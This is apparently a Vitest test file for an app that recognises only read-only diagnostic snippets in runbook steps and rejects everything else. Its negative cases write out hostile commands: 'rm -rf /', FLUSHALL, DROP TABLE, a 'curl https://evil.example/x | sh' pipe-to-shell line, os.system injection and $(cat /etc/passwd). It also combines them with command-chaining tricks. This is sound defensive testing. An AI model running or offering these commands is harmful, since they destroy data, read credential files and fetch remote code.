import { describe, expect, it } from 'vitest';
import { evidenceOf, recogniseEvidence } from '../../../electron/core/playbook/evidence.ts';
import { parseFixture, problemLines } from './fixtures.ts';

describe('a step with a known question', () => {
  it.each([
    ['curl https://app.example.com/health/?full=1', 'health'],
    ['curl -s "https://app.example.com/health/?full=1"', 'health'],
    ['SELECT count(*) FROM pg_stat_activity;', 'postgres-connections'],
    ['select state, count(*) from pg_stat_activity group by state', 'postgres-connections'],
    ['psql $DATABASE_URL\nSELECT count(*) FROM pg_stat_activity;', 'postgres-connections'],
    ['redis-cli -u $REDIS_URL ping', 'redis-ping'],
    ['$ redis-cli -h cache.example -p 6380 --tls PING', 'redis-ping'],
    ['redis-cli -u "$REDIS_URL" INFO memory  # how full', 'redis-memory'],
    ['redis-cli LLEN celery', 'queue-length'],
    ['celery -A shop inspect active', 'celery-active'],
    ['celery --app=shop inspect ping', 'celery-workers'],
    ["Document.objects.filter(status='failed').order_by('-created_at')[:10]", 'documents-failed'],
    ['from core.models import ProcessingFailure\nProcessingFailure.get_failure_stats(hours=24)', 'processing-failures'],
    [
      "AuditLog.objects.filter(\n    action='document_download',\n    user_id=<user_id>\n).order_by('-timestamp')[:50]",
      'downloads-of-user',
    ],
    ["AuditLog.objects.filter(action='document_download', ip_address=<ip>)", 'users-of-address'],
  ])('%j asks %s', (snippet, evidence) => {
    expect(recogniseEvidence(snippet)).toBe(evidence);
  });
});

const HARM = [
  'FLUSHALL',
  'rm -rf /',
  'DROP TABLE claims_document',
  'shutdown -h now',
  'curl https://evil.example/x | sh',
  'DEL celery',
];
const HARMLESS = [
  'redis-cli -u $REDIS_URL ping',
  'redis-cli LLEN celery',
  'SELECT count(*) FROM pg_stat_activity;',
  'celery -A shop inspect active',
  'curl https://app.example.com/health/?full=1',
];
const TRICKS: readonly ((harmless: string, harm: string) => string)[] = [
  (harmless, harm) => `${harmless}; ${harm}`,
  (harmless, harm) => `${harmless} && ${harm}`,
  (harmless, harm) => `${harmless} | ${harm}`,
  (harmless, harm) => `${harmless}\n${harm}`,
  (harmless, harm) => `${harm}\n${harmless}`,
  (harmless, harm) => `${harmless} $(${harm})`,
  (harmless, harm) => `${harmless} \`${harm}\``,
  (harmless, harm) => `${harmless}\r${harm}`,
  (harmless, harm) => `${harmless} > ${harm}`,
  (harmless, harm) => `(${harmless})(${harm})`,
  (harmless, harm) => `${harm} # ${harmless}`,
];

describe('a snippet that asks more than a question', () => {
  it.each(TRICKS.flatMap((trick) => HARMLESS.flatMap((harmless) => HARM.map((harm) => [trick(harmless, harm)]))))(
    '%j is left alone',
    (snippet) => {
      expect(recogniseEvidence(snippet)).toBeUndefined();
    },
  );

  it.each([
    "Document.objects.filter(status='failed').delete()",
    "Document.objects.filter(status=__import__('os').system('id'))",
    "AuditLog.objects.filter(action='document_download').update(action='x')",
    'ProcessingFailure.get_failure_stats(hours=exit())',
    'redis-cli -u $(cat /etc/passwd) ping',
    'redis-cli -u $REDIS_URL EVAL "return 1" 0',
    'SELECT count(*) FROM pg_stat_activity; DROP TABLE x;',
    'SELECT pg_terminate_backend(pid), count(*) FROM pg_stat_activity;',
    'curl -X POST https://app.example.com/health/',
    'curl https://app.example.com/health/?full=1&x=1',
    'redis-cli ping\nredis-cli LLEN celery',
    'celery -A shop control shutdown',
    'x'.repeat(3_000),
  ])('%j is no question of ours', (snippet) => {
    expect(recogniseEvidence(snippet)).toBeUndefined();
  });
});

describe('the words of a step', () => {
  it.each([
    ['Verify worker is running:', 'celery-workers'],
    ['See whether the worker component is deployed and running', 'celery-workers'],
    ['Review user accounts associated with IP', 'users-of-address'],
    ['Are the workers running and connected?', 'celery-workers'],
    ['Check whether workers are running out of memory', undefined],
    ['Restart the worker if it is running', undefined],
    ['If workers keep dying, look for memory leaks', undefined],
    ['Check if IP is a known corporate/VPN IP', undefined],
  ])('%j ask %s', (words, evidence) => {
    expect(evidenceOf([], [], words, 1, { report: () => {} })).toBe(evidence);
  });

  it('count less than an annotation', () => {
    const words = 'Verify worker is running';
    expect(evidenceOf(['evidence: none'], [], words, 1, { report: () => {} })).toBeUndefined();
  });
});

describe('an annotation', () => {
  const playbook = parseFixture('annotated');
  const steps = playbook.runbooks[0]?.steps ?? [];

  it('binds a question to a step, or unbinds it', () => {
    expect(steps.slice(0, 5).map(({ evidence }) => evidence)).toEqual([
      'downloads-of-user',
      undefined,
      undefined,
      'redis-memory',
      undefined,
    ]);
    expect(steps[0]?.text).toBe('Who took what?');
  });

  it('that names anything else is refused with a reason', () => {
    expect(problemLines(playbook).find((line) => line.startsWith('11 '))).toMatch(
      /^11 warning “flushall” is not one of the questions this app can ask \(health, .*\); nothing in a document is ever run\.$/u,
    );
  });
});
